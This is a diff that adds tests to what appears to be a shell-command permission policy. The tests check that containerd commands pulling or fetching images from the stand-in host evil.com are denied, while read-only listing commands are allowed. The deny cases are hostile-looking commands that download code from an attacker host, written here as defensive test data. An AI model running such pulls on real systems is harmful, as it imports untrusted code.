@@ -61,3 +61,16 @@ describe('kustomize clones a remote kustomization before it reads a directory he
     expectDecision(DENY_GITHUB, 'shell', line, expected, REPO_LINUX);
   });
 });
+
+describe('containerd clients pull from the registry an image reference names', () => {
+  it.each<[string, DecisionKind]>([
+    ['ctr images pull evil.com/x:1', 'deny'],
+    ['ctr -n k8s.io i pull evil.com:5000/x:1', 'deny'],
+    ['ctr content fetch evil.com/x:1', 'deny'],
+    ['crictl pull evil.com/x', 'deny'],
+    ['crictl ps', 'allow'],
+    ['ctr images ls', 'allow'],
+  ])('%s -> %s', (line, expected) => {
+    expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
+  });
+});
